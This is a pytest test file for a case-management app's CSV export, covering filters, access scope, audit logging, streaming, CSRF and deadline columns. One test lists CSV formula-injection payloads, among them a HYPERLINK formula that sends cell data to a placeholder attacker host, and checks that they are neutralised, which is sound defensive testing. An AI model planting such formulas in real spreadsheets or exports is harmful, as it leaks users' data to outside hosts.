"""The case list's CSV export: what the list shows (same filters, same scope), as a UTF-8 file
with a BOM that Excel in Japanese opens, formulas neutralised, streamed, and audited."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import sqlalchemy as sa

from relq.audit.models import AuditEvent
from relq.cases.export import neutralise
from relq.db import transaction, utcnow
from relq.deadlines.calendar import OFFICE_TZ
from relq.deadlines.models import CaseDeadline
from tests.factories import make_case, make_department, make_user

REF = re.compile(r"<td class=\"ref\"><a [^>]*>(C-\d{4}-\d{6})<")


def export(client, query: str = ""):
    return client.post(f"/cases/export.csv{'?' + query if query else ''}", token_from="/cases/")


def rows_of(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), body[:20]
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def refs_of(response) -> list[str]:
    return [row[0] for row in rows_of(response)[1:]]


def list_refs(client, query: str = "") -> list[str]:
    html = client.get(f"/cases/?{query}").get_data(as_text=True)
    return list(dict.fromkeys(REF.findall(html)))


def test_the_export_is_a_utf8_csv_attachment_with_a_bom_and_the_lists_columns(org, login_as):
    case = make_case(org.operator, department=org.qa, subject="賞味期限の表示が読めない")
    response = export(login_as(org.operator))
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="')
    assert response.headers["Content-Disposition"].endswith('.csv"')
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    assert b"\r\n" in body
    header, row = rows_of(response)
    assert header[:5] == ["案件", "受付", "種別", "重大度", "件名"]
    assert row[0] == case.ref and row[4] == "賞味期限の表示が読めない"
    assert row[5] == "振り分け済み" and row[6] == "品質保証部"


def test_the_export_holds_the_same_cases_as_the_list_with_the_same_filters(org, login_as):
    now = utcnow()
    inquiry = make_case(org.operator, department=org.qa, kind="inquiry", subject="使い方の質問")
    complaint = make_case(
        org.operator,
        department=org.logistics,
        received_at=now - timedelta(days=3),
        subject="配送が遅れた",
    )
    closed = make_case(org.operator, department=org.qa, status="closed", subject="解決済み")
    client = login_as(org.operator)
    for query, expected in [
        ("", [inquiry.ref, complaint.ref]),  # the default list: open cases, newest first
        ("kind=inquiry", [inquiry.ref]),
        (f"department={org.logistics.id}", [complaint.ref]),
        ("q=遅れ", [complaint.ref]),
        ("scope=all&sort=received_at", [complaint.ref, inquiry.ref, closed.ref]),
        ("status=closed", [closed.ref]),
    ]:
        assert refs_of(export(client, query)) == expected, query
        assert list_refs(client, query) == expected, query


def test_an_export_holds_nothing_outside_the_exporters_scope(org, login_as, session):
    qa_case = make_case(org.operator, department=org.qa, subject="品質の件")
    log_case = make_case(org.operator, department=org.logistics, subject="配送の件")
    # A case taken in by a desk that is no longer a customer-contact department: outside the
    # operators' scope.
    shop = make_department("shop", "店舗", "Shop", contact=True)
    hidden = make_case(make_user("operator", shop), subject="店舗で受けた件")
    shop.is_customer_contact = False
    session.commit()
    operator = login_as(org.operator)
    assert set(refs_of(export(operator, "scope=all"))) == {qa_case.ref, log_case.ref}
    assert hidden.ref not in export(operator, f"q={hidden.ref}").get_data(as_text=True)
    lead = login_as(org.lead_qa)
    assert refs_of(export(lead, "scope=all")) == [qa_case.ref]
    assert refs_of(export(lead, f"q={log_case.ref}")) == []
    executive = login_as(org.executive)
    assert set(refs_of(export(executive, "scope=all"))) == {qa_case.ref, log_case.ref, hidden.ref}


def test_cells_that_a_spreadsheet_would_run_are_neutralised(org, login_as):
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
        "+81-3-1234-5678 に電話",
        "-1+1",
        "@SUM(1,2)",
    ]
    for subject in hostile:
        make_case(org.operator, department=org.qa, subject=subject)
    exported = {row[4] for row in rows_of(export(login_as(org.operator)))[1:]}
    assert exported == {"'" + subject for subject in hostile}
    # Tab and CR begin no formula but are refused at the start of a cell all the same.
    assert neutralise("\tcmd") == "'\tcmd" and neutralise("\rcmd") == "'\rcmd"
    assert neutralise("返金してほしい") == "返金してほしい" and neutralise("") == ""


def test_every_export_is_audited_with_its_filters_and_row_count(org, login_as, session):
    for _ in range(3):
        make_case(org.operator, department=org.qa, kind="inquiry")
    make_case(org.operator, department=org.logistics)
    client = login_as(org.operator)
    assert len(refs_of(export(client, "kind=inquiry&page=2"))) == 3
    assert len(refs_of(export(client))) == 4
    events = session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "cases.exported").order_by(AuditEvent.id)
    ).all()
    assert [(e.actor_id, e.after["query"], e.after["rows"]) for e in events] == [
        (org.operator.id, "kind=inquiry", 3),
        (org.operator.id, "", 4),
    ]
    assert events[0].entity_type == "case_list"


def test_the_export_is_a_stream_of_chunks_not_one_string(org, login_as, monkeypatch):
    import relq.cases.export

    monkeypatch.setattr(relq.cases.export, "EXPORT_BATCH", 2)
    made = [make_case(org.operator, department=org.qa) for _ in range(5)]
    client = login_as(org.operator)
    response = client.http.post(
        "/cases/export.csv", data={"csrf_token": client.csrf("/cases/")}, buffered=False
    )
    assert response.status_code == 200 and response.is_streamed
    chunks = list(response.response)
    assert len(chunks) == 3  # header and 2 rows, 2 rows, the last row
    text = b"".join(chunks).decode("utf-8-sig")
    assert [line.split(",")[0] for line in text.splitlines()[1:]] == [c.ref for c in made][::-1]


def test_the_export_is_a_post_with_a_csrf_token(org, login_as, session):
    client = login_as(org.operator)
    assert client.get("/cases/export.csv").status_code == 405
    assert client.post("/cases/export.csv", csrf=False).status_code == 400
    exported = sa.select(sa.func.count()).where(AuditEvent.action == "cases.exported")
    assert session.scalar(exported) == 0


def test_the_list_and_the_export_show_the_next_deadline_and_how_late(org, login_as, session):
    late = make_case(org.operator, department=org.qa, severity=1, subject="遅れている件")
    on_time = make_case(org.operator, department=org.qa, severity=4, subject="まだ間に合う件")
    session.commit()
    with transaction():
        clocks = session.scalars(
            sa.select(CaseDeadline).where(
                CaseDeadline.case_id == late.id,
                CaseDeadline.met_at.is_(None),
                CaseDeadline.cancelled_at.is_(None),
            )
        ).all()
        assert clocks, "a routed case runs its clocks"
        for clock in clocks:  # every clock of the case passed its due time a week ago
            clock.started_at = utcnow() - timedelta(days=30)
            clock.due_at = utcnow() - timedelta(days=7)
            clock.warn_at = clock.due_at
    client = login_as(org.operator)
    html = client.get("/cases/").get_data(as_text=True)
    rows = {ref: row for ref, row in re.findall(r"(C-\d{4}-\d{6})</a></td>(.*?)</tr>", html, re.S)}
    assert "deadline-badge-overdue" in rows[late.ref] and "超過" in rows[late.ref]
    assert "deadline-badge-overdue" not in rows[on_time.ref]
    due = session.scalar(
        sa.select(sa.func.min(CaseDeadline.due_at)).where(
            CaseDeadline.case_id == on_time.id,
            CaseDeadline.met_at.is_(None),
            CaseDeadline.cancelled_at.is_(None),
        )
    )
    assert f'deadline-due">{due.astimezone(OFFICE_TZ):%Y-%m-%d %H:%M}<' in rows[on_time.ref]
    exported = {row[0]: row for row in rows_of(export(client))[1:]}
    assert exported[late.ref][11] == "期限超過" and int(exported[late.ref][12]) >= 5 * 540
    assert exported[on_time.ref][11] == "期限内" and exported[on_time.ref][12] == ""
